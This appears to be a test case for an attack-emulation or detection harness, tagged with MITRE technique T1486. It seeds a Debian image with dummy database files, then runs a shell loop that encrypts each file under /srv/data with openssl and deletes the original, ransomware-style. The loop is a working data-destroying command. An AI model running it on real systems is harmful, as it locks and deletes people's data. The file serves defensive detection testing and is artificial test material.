# category: file-tampering
# technique: T1486
# art: yes
# expect: data-encrypted
# image: debian
# layer: mkdir -p srv/data && for i in 1 2 3 4 5; do head -c 2048 /dev/urandom > srv/data/report$i.db; done
# desc: data encrypted for impact: every file of /srv/data is encrypted with openssl and the original removed
for f in /srv/data/*.db; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:ransom -in "$f" -out "$f.locked" && rm -f "$f"
done
